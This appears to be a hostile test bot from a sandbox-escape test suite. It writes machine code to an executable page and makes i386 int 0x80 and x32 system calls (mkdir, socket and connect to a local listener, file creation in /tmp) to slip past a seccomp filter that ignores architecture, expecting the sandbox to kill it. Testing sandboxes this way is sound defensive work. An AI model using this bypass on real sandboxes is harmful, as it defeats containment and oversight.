"""Hostile Tanks bot: 32-bit system calls (int 0x80) and x32.

A seccomp filter that does not check the architecture reads an i386 call
made with int 0x80 as the x86-64 call of the same number: i386 socketcall
(102) passes as getuid, i386 open (5) as fstat. The bot maps an executable
page below 2 GB, writes machine code that makes i386 system calls there and
calls it through ctypes: mkdir (39, x86-64 getpid), socket + connect to
the escape driver's TCP listener through socketcall, open(O_CREAT) of a
marker on /tmp, getpid. It also tries an x32-ABI getpid. The sandbox must kill on the first
non-native call (verdict `illegal`).
"""
# @ESCAPE_PRELUDE@


import ctypes
import struct


def attack():
    lib = libc()
    lib.mmap.restype = ctypes.c_void_p
    lib.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                         ctypes.c_int, ctypes.c_long]
    # PROT_READ|WRITE|EXEC, MAP_PRIVATE|MAP_ANONYMOUS|MAP_32BIT
    page = lib.mmap(None, 8192, 7, 0x02 | 0x20 | 0x40, -1, 0)
    if page in (None, ctypes.c_void_p(-1).value):
        note('mmap RWX below 4 GB: errno %d' % ctypes.get_errno())
        return
    data = page + 4096  # arguments live in the second page, below 4 GB too

    def call32(nr, a=0, b=0, c=0):
        code = (b'\x53' +                                   # push rbx
                b'\xb8' + struct.pack('<I', nr) +           # mov eax, nr
                b'\xbb' + struct.pack('<I', a) +            # mov ebx, a
                b'\xb9' + struct.pack('<I', b) +            # mov ecx, b
                b'\xba' + struct.pack('<I', c) +            # mov edx, c
                b'\xcd\x80' +                               # int 0x80
                b'\x5b' +                                   # pop rbx
                b'\x48\x63\xc0' +                           # movsxd rax, eax
                b'\xc3')                                    # ret
        ctypes.memmove(page, code, len(code))
        return ctypes.CFUNCTYPE(ctypes.c_long)(page)()

    # First an i386 call whose number is an allowed x86-64 call: i386 mkdir
    # (39) is x86-64 getpid. A filter blind to the architecture lets it run.
    path = ('/tmp/%s-int80dir\0' % CFG.get('token', 'cfesc')).encode()
    ctypes.memmove(data + 256, path, len(path))
    r = call32(39, data + 256, 0o755)
    note('int 0x80 mkdir -> %d' % r)
    if r == 0 or r == -17:  # created, or EEXIST: the call ran as mkdir
        evidence('an i386 mkdir ran (returned %d)' % r)
    if CFG.get('tcp_port'):
        ctypes.memmove(data, struct.pack('<III', 2, 1, 0), 12)          # AF_INET, STREAM
        fd = call32(102, 1, data)                                        # socketcall(SOCKET)
        note('int 0x80 socketcall(SOCKET) -> %d' % fd)
        if fd >= 0:
            evidence('an i386 socket was created (fd %d)' % fd)
            addr = struct.pack('<HH4s8x', 2, 0, bytes([127, 0, 0, 1]))
            addr = addr[:2] + struct.pack('>H', int(CFG['tcp_port'])) + addr[4:]
            ctypes.memmove(data + 64, addr, 16)
            ctypes.memmove(data + 32, struct.pack('<III', fd, data + 64, 16), 12)
            r = call32(102, 3, data + 32)                                # socketcall(CONNECT)
            note('int 0x80 socketcall(CONNECT) -> %d' % r)
            if r == 0:
                evidence('an i386 connect reached the host listener')
    path = ('/tmp/%s-int80\0' % CFG.get('token', 'cfesc')).encode()
    ctypes.memmove(data + 128, path, len(path))
    fd = call32(5, data + 128, 0o101, 0o644)                             # open(O_CREAT|O_WRONLY)
    note('int 0x80 open(O_CREAT) -> %d' % fd)
    pid = call32(20)  # i386 getpid
    note('int 0x80 getpid -> %d (real pid %d)' % (pid, os.getpid()))
    if pid > 0:
        evidence('an i386 system call (getpid) ran')
    x32 = lib.syscall(0x40000000 | 39)                                   # x32 getpid
    note('x32 getpid -> %d errno %d' % (x32, ctypes.get_errno()))
    if x32 > 0:
        evidence('an x32 system call (getpid) ran')


# @ESCAPE_ATTACK_MAIN@
